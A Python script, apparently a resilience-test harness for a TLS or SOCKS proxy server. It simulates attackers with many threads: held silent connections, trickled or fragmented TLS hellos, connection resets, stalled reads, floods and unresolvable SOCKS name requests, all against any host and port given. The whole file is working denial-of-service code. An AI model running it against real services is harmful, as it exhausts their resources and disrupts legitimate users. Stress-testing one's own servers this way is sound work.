"""What attackers do, as a program that needs nothing but Python: ``KIND HOST PORT SECONDS FROM``.

Prints ``attacking`` once it has begun, and how often it struck when it is over.
"""

from __future__ import annotations

import os
import random
import resource
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable

RESET = struct.pack("ii", 1, 0)


def client_hello(name: str = "inside.example") -> bytes:
    """A real one."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


HELLO = client_hello()


def in_crumbs(hello: bytes) -> bytes:
    """The same hello, each byte a TLS record of its own."""
    return b"".join(b"\x16\x03\x01\x00\x01" + bytes([byte]) for byte in hello[5:])


class Attack:
    """One attacker: many threads, from one address, until the time is over."""

    def __init__(self, host: str, port: int, seconds: float, source: str) -> None:
        self.where = (host, port)
        self.until = time.monotonic() + seconds
        self.source = source
        self.strikes = 0

    @property
    def over(self) -> bool:
        return time.monotonic() >= self.until

    def connect(self) -> socket.socket:
        sock = socket.create_connection(self.where, 1, (self.source, 0))
        self.strikes += 1
        return sock

    def reset(self, sock: socket.socket) -> None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        sock.close()

    def forever(self, strike: Callable[[], None], pause: float) -> None:
        while not self.over:
            try:
                strike()
            except OSError:
                pass
            time.sleep(pause)

    def run(self, kind: str) -> None:
        plan = PLANS[kind]
        threads = [
            threading.Thread(target=self.forever, args=(lambda strike=strike: strike(self), pause))
            for strike, count, pause in plan
            for _ in range(count)
        ]
        for thread in threads:
            thread.start()
        print("attacking", flush=True)
        for thread in threads:
            thread.join()
        print(f"struck {self.strikes} times", flush=True)


# -- strangers -------------------------------------------------------------------------------


def silent(attack: Attack) -> None:
    """Many connections that say nothing."""
    held: list[socket.socket] = []
    try:
        while not attack.over:
            if len(held) < 60:
                held.append(attack.connect())
            else:
                time.sleep(0.05)
                for sock in [one for one in held if _closed(one)]:
                    sock.close()
                    held.remove(sock)
    finally:
        for sock in held:
            sock.close()


def _closed(sock: socket.socket) -> bool:
    sock.setblocking(False)
    try:
        return sock.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def garbage(attack: Attack) -> None:
    """Bytes of no protocol."""
    with attack.connect() as sock:
        sock.sendall(os.urandom(random.randint(1, 3000)))
        sock.settimeout(0.2)
        sock.recv(100)


def trickle(attack: Attack) -> None:
    """A hello, a byte now and then."""
    with attack.connect() as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in HELLO:
            sock.send(bytes([byte]))
            time.sleep(0.01)
            if attack.over:
                return


def crumbs(attack: Attack) -> None:
    """A hello in records of one byte, in small segments."""
    data = in_crumbs(HELLO * 4)
    with attack.connect() as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for start in range(0, len(data), 6):
            sock.send(data[start : start + 6])


def resets(attack: Attack) -> None:
    """A reset after every number of bytes of a hello."""
    sock = attack.connect()
    sock.send(HELLO[: attack.strikes % (len(HELLO) + 1)])
    attack.reset(sock)


def handshakes(attack: Attack) -> None:
    """A hello, and then nothing: the other side signs for nobody."""
    with attack.connect() as sock:
        sock.sendall(HELLO)
        sock.settimeout(0.5)
        sock.recv(1000)


# -- tenants: through a SOCKS server or a forward of their own ---------------------------------


def socks_steps(port: int) -> list[bytes]:
    return [b"\x05\x01\x00", b"\x05\x01\x00\x01\x7f\x00\x00\x01" + struct.pack("!H", port)]


def channel_resets(attack: Attack) -> None:
    """A channel that is reset after every step of its life."""
    port = int(os.environ["TARGET_PORT"])
    step = attack.strikes % 5
    sock = attack.connect()
    sock.settimeout(5)
    for number, data in enumerate((*socks_steps(port), b"x" * 5000, b"y")):
        if number == step:
            break
        sock.sendall(data)
        if number < 2 and step % 2:
            sock.recv(10)
    attack.reset(sock)


def stalled(attack: Attack) -> None:
    """Asks for an endless stream and never reads it."""
    with attack.connect() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        while not attack.over:
            time.sleep(0.05)


def uploads(attack: Attack) -> None:
    """Sends to a destination that does not answer, as much as is taken."""
    with attack.connect() as sock:
        sock.settimeout(0.2)
        try:
            for _ in range(100):
                sock.sendall(bytes(16_384))
        except TimeoutError:
            pass
        while not attack.over and not _closed(sock):
            time.sleep(0.05)


def single_bytes(attack: Attack) -> None:
    """Writes of one byte, each answered."""
    with attack.connect() as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.settimeout(5)
        for _ in range(50):
            sock.send(b"x")
            sock.recv(1)
            if attack.over:
                return


def names(attack: Attack) -> None:
    """Asks for names that nobody resolves."""
    name = f"{random.randrange(1 << 60):x}.slow.example".encode()
    with attack.connect() as sock:
        sock.settimeout(1)
        sock.sendall(b"\x05\x01\x00")
        sock.recv(2)
        sock.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x00\x50")
        sock.recv(10)


# What strikes, in how many threads, and its pause between two strikes.
PLANS: dict[str, list[tuple[Callable[[Attack], None], int, float]]] = {
    "strangers": [
        (silent, 5, 0.0),
        (garbage, 2, 0.02),
        (trickle, 20, 0.0),
        (resets, 2, 0.01),
        (handshakes, 2, 0.05),
    ],
    "silent": [(silent, 10, 0.0)],
    "crumbs": [(crumbs, 4, 0.02)],
    "resets": [(channel_resets, 4, 0.005)],
    "stalled": [(stalled, 60, 0.0)],
    "uploads": [(uploads, 60, 0.0)],
    "single bytes": [(single_bytes, 8, 0.0)],
    "names": [(names, 64, 0.0)],
}


def main(kind: str, host: str, port: str, seconds: str, source: str) -> None:
    """One attack."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 4096)), hard))
    Attack(host, int(port), float(seconds), source).run(kind)


if __name__ == "__main__":
    main(*sys.argv[1:])
